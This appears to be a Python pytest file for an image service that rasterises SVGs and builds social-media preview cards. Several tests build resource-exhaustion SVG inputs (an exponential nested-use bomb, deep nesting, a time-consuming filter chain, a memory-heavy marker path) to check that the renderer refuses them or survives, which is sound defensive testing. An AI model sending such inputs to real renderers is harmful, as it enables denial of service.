def multiplying(levels: int, inner: str) -> str:
    """Each level uses the one below it ten times."""
    groups = f'<g id="g0">{inner}</g>'
    for n in range(levels):
        groups += f'<g id="g{n + 1}">' + f'<use href="#g{n}"/>' * 10 + "</g>"
    return f'<defs>{groups}</defs><use href="#g{levels}"/>'


@pytest.mark.parametrize(
    "image",
    [
        pytest.param(svg(multiplying(9, "<rect width='1' height='1'/>")), id="uses of uses"),
        pytest.param(svg("<g>" * 101 + "</g>" * 101), id="too deep"),
        pytest.param(b"roses", id="not an SVG"),
        pytest.param(b"", id="nothing"),
    ],
)
def test_an_svg_that_cannot_be_drawn_is_refused(image):
    with pytest.raises(InvalidImage, match="Invalid SVG"):
        png(image, SVG)


@pytest.mark.parametrize(
    "inner",
    [
        pytest.param('<g opacity=".9">' * 98 + "<rect/>" + "</g>" * 98, id="stack"),
        pytest.param(
            '<filter id="f" x="-999" y="-999" width="9999" height="9999">'
            + '<feMorphology operator="dilate" radius="90"/>' * 50
            + '</filter><rect filter="url(#f)" width="9" height="9"/>',
            id="time",
        ),
        pytest.param(
            f'<marker id="m">{"<rect/>" * 1000}</marker>'
            f'<path marker-mid="url(#m)" d="M0 0{"L1 1" * 20_000}"/>',
            id="memory",
        ),
        pytest.param(f'<image width="10" height="10" href="{HUGE}"/>', id="large picture"),
    ],
)
def test_x11_a_rasteriser_that_is_overwhelmed_takes_nothing_with_it(inner):
    """Whatever it makes of these: an answer in bounded time, and this process lives."""
    try:
        assert opened(png(svg(inner), SVG)).size == (400, 400)
    except InvalidImage as refused:
        assert refused.message == "Invalid SVG: it cannot be drawn."


@pytest.mark.parametrize("media_type", ["", "image/jpeg", "text/html"])
def test_only_kept_types_are_drawn(media_type):
    with pytest.raises(InvalidImage):
        png(encoded(picture()), media_type)
    with pytest.raises(InvalidImage):
        social_preview(encoded(picture()), media_type)


def test_a_damaged_png_cannot_be_drawn():
    with pytest.raises(InvalidImage):
        png(noisy_png()[:5000], PNG)


# The card for social networks


@pytest.mark.parametrize(
    "words",
    [
        {},
        {"title": "Rose grower"},
        {"title": "Rose grower", "subtitle": "Royal Horticultural Society"},
        {"title": "Gründungsmitglied", "subtitle": "Gärtnerei"},
        {"title": "rose " * 100, "subtitle": "society " * 100},
        {"title": "r" * 300, "subtitle": "s" * 300},
        {"title": " ", "subtitle": "\n"},
    ],
)
def test_a_card_has_the_size_that_networks_expect(words):
    card = opened(social_preview(svg(), SVG, **words))

    assert (card.format, card.mode, card.size) == ("PNG", "RGB", (1200, 630))


def reds(card: bytes) -> tuple[int, int]:
    """From where to where, half way down, the card shows the badge's red."""
    row = opened(card).load()
    found = [x for x in range(1200) if row[x, 315] == RED[:3]]
    return found[0], found[-1]


def test_the_image_stands_left_of_words_and_in_the_middle_without_any():
    square = encoded(picture())

    assert reds(social_preview(square, PNG)) == (395, 804)
    assert reds(social_preview(square, PNG, title="Rose grower")) == (90, 499)


@pytest.mark.parametrize(
    "title", ["Gründungsmitglied", "Вяжет узлы", "Κόμποι", "عقد البحار", "קשרים", "Łódź & <b>"]
)
def test_a_title_is_written_in_its_own_letters(title):
    square = encoded(picture())

    assert reds(social_preview(square, PNG, title=title)) == (90, 499)
    assert social_preview(square, PNG, title=title) != social_preview(square, PNG, title="x")


@pytest.mark.parametrize("title", ["\U00012000\U00012001", "\ue000", "\u0000", "\n"])
def test_a_title_that_no_font_can_write_is_not_written(title):
    assert social_preview(svg(), SVG, title=title) == social_preview(svg(), SVG)


def test_words_stay_on_the_card_and_off_the_image():
    short = opened(social_preview(svg(), SVG, title="."))
    long = opened(social_preview(svg(), SVG, title="W" * 300, subtitle="m " * 500))

    left, top, right, bottom = ImageChops.difference(short, long).getbbox()

    assert 570 < left < right < 1130
    assert 60 < top < bottom < 570
